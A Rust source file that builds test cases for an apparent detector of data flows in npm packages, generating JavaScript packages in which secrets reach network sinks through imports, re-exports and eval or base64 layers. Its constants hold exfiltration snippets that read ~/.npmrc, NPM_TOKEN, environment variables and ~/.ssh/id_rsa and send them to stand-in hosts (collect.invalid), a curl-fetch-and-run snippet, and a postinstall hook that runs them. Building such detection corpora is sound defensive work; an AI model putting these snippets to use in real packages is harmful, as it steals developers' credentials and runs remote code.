//! The cases of `corpus/behaviours/flow`: channels that a value passes, each put between several
//! sources and sinks, and into one file, two files, re-exports and layers.
//!
//! ```text
//! == NAME
//! code in which what `source()` gives reaches `send(…)`
//! -- why it does not reach it in what follows
//! code
//! ```
//!
//! `@ PATH` starts another file of the same code. A line that starts with `#` is a remark.

use std::fs;

use crate::{File, root};

/// A package in which a value reaches a sink, or does not.
#[derive(Debug)]
pub struct FlowCase {
    /// `FILE/CHANNEL/FORM`, with `/not` behind it where the value does not arrive.
    pub name: String,
    /// Whether it arrives.
    pub reaches: bool,
    /// The flow's kind, its source's kind and its sink's kind.
    pub flow: [&'static str; 3],
    /// The package.
    pub files: Vec<File>,
}

/// A source and a sink: expression, statement with `VALUE`, kinds of the flow and its ends.
struct Ends {
    source: &'static str,
    sink: &'static str,
    flow: [&'static str; 3],
}

/// Paths and texts of files.
type Texts = &'static [(&'static str, &'static str)];

const ENDS: [Ends; 6] = [
    Ends {
        source: r#"require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8")"#,
        sink: r#"require("https").request("https://collect.invalid/a", { method: "POST" }).end(VALUE)"#,
        flow: ["credential-to-network", "credential.npm", "network.http"],
    },
    Ends {
        source: "process.env.NPM_TOKEN",
        sink: r#"fetch("https://collect.invalid/b", { method: "POST", body: VALUE })"#,
        flow: ["credential-to-network", "credential.npm", "network.http"],
    },
    Ends {
        source: r#"require("os").hostname()"#,
        sink: r#"require("dns").lookup(VALUE + ".collect.invalid", () => {})"#,
        flow: ["host-to-network", "environment.host", "network.dns"],
    },
    Ends {
        source: "JSON.stringify(process.env)",
        sink: r#"require("net").connect(443, "collect.invalid").write(VALUE)"#,
        flow: [
            "environment-to-network",
            "environment.read",
            "network.socket",
        ],
    },
    Ends {
        source: r#"require("child_process").execSync("curl -s https://drop.invalid/x").toString()"#,
        sink: "new Function(VALUE)()",
        flow: ["remote-to-code", "network.http", "code.function"],
    },
    Ends {
        source: r#"require("fs").readFileSync(require("path").join(require("os").homedir(), ".ssh", "id_rsa"), "utf8")"#,
        sink: r#"require("child_process").exec(`curl -d '${VALUE}' https://collect.invalid/c`)"#,
        flow: ["credential-to-network", "credential.ssh", "network.http"],
    },
];

/// Lines that bring `source` and `send` into a file, and the files that they come from. `SOURCE`
/// and `SINK` stand for the ends.
const IMPORTS: [(&str, &str, Texts); 2] = [
    (
        "two-require",
        "const { source } = require(\"./lib/source\");\nconst { send } = require(\"./lib/send\");\n",
        &[
            ("lib/source.js", "exports.source = () => SOURCE;\n"),
            (
                "lib/send.js",
                "module.exports = { send };\nfunction send(value) { SINK; }\n",
            ),
        ],
    ),
    (
        "two-import",
        "import { source } from \"./lib/source.mjs\";\nimport { send } from \"./lib/send.mjs\";\n",
        &[
            (
                "lib/source.mjs",
                "REQUIREexport const source = () => SOURCE;\n",
            ),
            (
                "lib/send.mjs",
                "REQUIREexport function send(value) { SINK; }\n",
            ),
        ],
    ),
];

/// Ways of handing on what another file exports: a name, what index.js does, the file between,
/// and whether both are modules. `lib/ends.js` exports `source` and `send`.
const RE_EXPORTS: [(&str, &str, &str, bool); 14] = [
    (
        "star",
        "import { source, send } from \"./barrel.mjs\";",
        "export * from \"./lib/ends.mjs\";",
        true,
    ),
    (
        "renamed",
        "import { read as source, post as send } from \"./barrel.mjs\";",
        "export { source as read, send as post } from \"./lib/ends.mjs\";",
        true,
    ),
    (
        "namespace",
        "import { ends } from \"./barrel.mjs\";\nconst { source, send } = ends;",
        "export * as ends from \"./lib/ends.mjs\";",
        true,
    ),
    (
        "imported",
        "import { source, send } from \"./barrel.mjs\";",
        "import { source, send } from \"./lib/ends.mjs\";\nexport { source, send };",
        true,
    ),
    (
        "default-object",
        "import ends from \"./barrel.mjs\";\nconst { source, send } = ends;",
        "import * as ends from \"./lib/ends.mjs\";\nexport default { ...ends };",
        true,
    ),
    (
        "default-named",
        "import ends from \"./barrel.mjs\";\nconst source = () => ends.source(), send = (value) => ends.send(value);",
        "import { source, send } from \"./lib/ends.mjs\";\nexport default { source, send };",
        true,
    ),
    (
        "class-static",
        "import { Ends } from \"./barrel.mjs\";\nconst source = () => Ends.source(), send = (value) => Ends.send(value);",
        "import * as ends from \"./lib/ends.mjs\";\nexport class Ends { static source() { return ends.source(); } static send(value) { ends.send(value); } }",
        true,
    ),
    (
        "class-methods",
        "import Ends from \"./barrel.mjs\";\nconst ends = new Ends();\nconst source = () => ends.source(), send = (value) => ends.send(value);",
        "import { source, send } from \"./lib/ends.mjs\";\nexport default class { source() { return source(); } send(value) { return send(value); } }",
        true,
    ),
    (
        "whole",
        "const { source, send } = require(\"./barrel\");",
        "module.exports = require(\"./lib/ends\");",
        false,
    ),
    (
        "one-by-one",
        "const { source, send } = require(\"./barrel\");",
        "exports.source = require(\"./lib/ends\").source;\nexports.send = require(\"./lib/ends\").send;",
        false,
    ),
    (
        "assigned",
        "const { source, send } = require(\"./barrel\");",
        "Object.assign(exports, require(\"./lib/ends\"));",
        false,
    ),
    (
        "spread",
        "const { source, send } = require(\"./barrel\");",
        "module.exports = { ...require(\"./lib/ends\") };",
        false,
    ),
    (
        "getter",
        "const { source, send } = require(\"./barrel\");",
        "var ends = require(\"./lib/ends\");\nObject.defineProperty(exports, \"__esModule\", { value: true });\nObject.defineProperty(exports, \"source\", { enumerable: true, get: function () { return ends.source; } });\nObject.defineProperty(exports, \"send\", { enumerable: true, get: function () { return ends.send; } });",
        false,
    ),
    (
        "lazy",
        "const source = () => require(\"./barrel\")().source(), send = (value) => require(\"./barrel\")().send(value);",
        "module.exports = () => require(\"./lib/ends\");",
        false,
    ),
];

/// Ways of running a text. `TEXT` is the code as a literal, `BASE64` that of its base64.
const LAYERS: [(&str, &str); 6] = [
    ("eval", "eval(TEXT);"),
    (
        "decoded",
        "eval(Buffer.from(BASE64, \"base64\").toString());",
    ),
    (
        "function",
        "new Function(\"require\", \"process\", \"module\", \"__dirname\", TEXT)(require, process, module, __dirname);",
    ),
    ("vm", "require(\"vm\").runInThisContext(TEXT);"),
    (
        "node-e",
        "require(\"child_process\").execFileSync(process.execPath, [\"-e\", TEXT]);",
    ),
    (
        "decoded-module",
        "module._compile(Buffer.from(BASE64, \"base64\").toString(\"utf8\"), __filename);",
    ),
];

/// Every case, each channel in four forms, with and without arrival.
///
/// # Panics
/// If a file of the folder is not written as it has to be.
#[must_use]
pub fn flow_cases() -> Vec<FlowCase> {
    let mut channels = Vec::new();
    let folder = root().join("corpus/behaviours/flow");
    let entries = fs::read_dir(&folder).unwrap_or_else(|e| panic!("{}: {e}", folder.display()));
    let mut paths: Vec<_> = entries.flatten().map(|entry| entry.path()).collect();
    paths.sort();
    for path in paths {
        let text = fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        let stem = path.file_stem().unwrap_or_default().to_string_lossy();
        for channel in text.split("\n== ").skip(1) {
            let (name, code) = channel.split_once('\n').unwrap_or((channel, ""));
            channels.push((format!("{stem}/{name}"), code.to_owned()));
        }
    }
    let mut cases = Vec::new();
    for (at, (name, code)) in channels.iter().enumerate() {
        let (reaches, stays) = twins(code).unwrap_or_else(|| panic!("{name}: there is no twin"));
        for form in 0..4 {
            let ends = &ENDS[(at + form * 2 + at / 6) % ENDS.len()];
            for (code, reaches) in [(&reaches, true), (&stays, false)] {
                let (form, files) = package(code, form, at, ends);
                let not = if reaches { "" } else { "/not" };
                cases.push(FlowCase {
                    name: format!("{name}/{form}{not}"),
                    reaches,
                    flow: ends.flow,
                    files,
                });
            }
        }
    }
    cases
}

/// The two blocks of a channel, with the reason between them.
fn twins(code: &str) -> Option<(String, String)> {
    let at = code.find("\n-- ")?;
    let (first, rest) = code.split_at(at + 1);
    let (_, second) = rest.split_once('\n')?;
    let is_code = |text: &str| text.contains("send");
    (is_code(first) && is_code(second)).then(|| (first.to_owned(), second.to_owned()))
}

fn package(code: &str, form: usize, at: usize, ends: &Ends) -> (String, Vec<File>) {
    let sink = ends.sink.replace("VALUE", "value");
    let fill = |text: &str| {
        let require = "import { createRequire } from \"node:module\";\nconst require = createRequire(import.meta.url);\n";
        text.replace("REQUIRE", require)
            .replace("SOURCE", ends.source)
            .replace("SINK", &sink)
    };
    let here = fill("const source = () => SOURCE;\nfunction send(value) { SINK; }\n");
    let (form, main, head, more): (String, &str, String, Vec<(&str, String)>) = match form {
        0 => ("one".to_owned(), "index.js", here, Vec::new()),
        1 => {
            let (name, head, files) = IMPORTS[at % IMPORTS.len()];
            let is_module = name == "two-import";
            let main = if is_module { "index.mjs" } else { "index.js" };
            let require = if is_module { "REQUIRE" } else { "" };
            let files = files.iter().map(|(path, text)| (*path, fill(text)));
            (
                name.to_owned(),
                main,
                fill(&format!("{require}{head}")),
                files.collect(),
            )
        }
        2 => {
            let (name, head, barrel, is_module) = RE_EXPORTS[at % RE_EXPORTS.len()];
            let (main, path, lib, text) = if is_module {
                let text = "REQUIREexport const source = () => SOURCE;\nexport function send(value) { SINK; }\n";
                ("index.mjs", "barrel.mjs", "lib/ends.mjs", text)
            } else {
                let text =
                    "exports.source = () => SOURCE;\nexports.send = function (value) { SINK; };\n";
                ("index.js", "barrel.js", "lib/ends.js", text)
            };
            let require = if is_module { "REQUIRE" } else { "" };
            (
                format!("re-export-{name}"),
                main,
                fill(&format!("{require}{head}\n")),
                vec![(path, format!("{barrel}\n")), (lib, fill(text))],
            )
        }
        _ => {
            let (name, _) = LAYERS[at % LAYERS.len()];
            (format!("layer-{name}"), "index.js", here, Vec::new())
        }
    };
    let mut files: Vec<File> = more
        .into_iter()
        .map(|(path, text)| (path.to_owned(), text.into_bytes()))
        .collect();
    for (nth, part) in format!("@ {main}\n{code}").split("\n@ ").enumerate() {
        let part = part.strip_prefix("@ ").unwrap_or(part);
        let (path, body) = part.split_once('\n').unwrap_or((part, ""));
        let is_module = main.ends_with(".mjs");
        let body = if is_module {
            body.replace("__dirname", "import.meta.dirname")
        } else {
            body.to_owned()
        };
        let mut text = format!("{head}{body}");
        if nth == 0 && form.starts_with("layer-") {
            text = layer(&text, at);
        }
        files.push((path.to_owned(), text.into_bytes()));
    }
    // Other files keep their names: what is asked for by name must be there.
    let is_module = main.ends_with(".mjs");
    let kind = if is_module { "module" } else { "commonjs" };
    let manifest = format!(
        r#"{{"name":"case","version":"1.0.0","type":"{kind}","scripts":{{"postinstall":"node {main}"}}}}"#
    );
    files.push(("package.json".to_owned(), manifest.into_bytes()));
    files.sort();
    (form, files)
}

fn layer(code: &str, at: usize) -> String {
    let (_, around) = LAYERS[at % LAYERS.len()];
    let literal = serde_json::Value::from(code).to_string();
    around
        .replace("TEXT", &literal)
        .replace("BASE64", &format!("{:?}", base64(code.as_bytes())))
        + "\n"
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let byte = |at: usize| u32::from(group.get(at).copied().unwrap_or(0));
        let bits = byte(0) << 16 | byte(1) << 8 | byte(2);
        for digit in 0..4 {
            let value = (bits >> (18 - 6 * digit)) & 63;
            text.push(if digit <= group.len() {
                char::from(DIGITS[value as usize])
            } else {
                '='
            });
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cases_have_twins_and_files() {
        let cases = flow_cases();
        assert!(cases.len() >= 600, "{}", cases.len());
        for pair in cases.chunks(2) {
            assert!(pair[0].reaches && !pair[1].reaches, "{}", pair[0].name);
            assert_eq!(format!("{}/not", pair[0].name), pair[1].name);
            assert_ne!(pair[0].files, pair[1].files);
        }
        for form in ["/one", "/two-import", "/re-export-star", "/layer-node-e"] {
            assert!(cases.iter().any(|case| case.name.ends_with(form)), "{form}");
        }
    }

    #[test]
    fn texts_are_encoded() {
        assert_eq!(base64(b"abcd"), "YWJjZA==");
        assert_eq!(base64(b"abc"), "YWJj");
        assert_eq!(base64(b"ab"), "YWI=");
    }
}
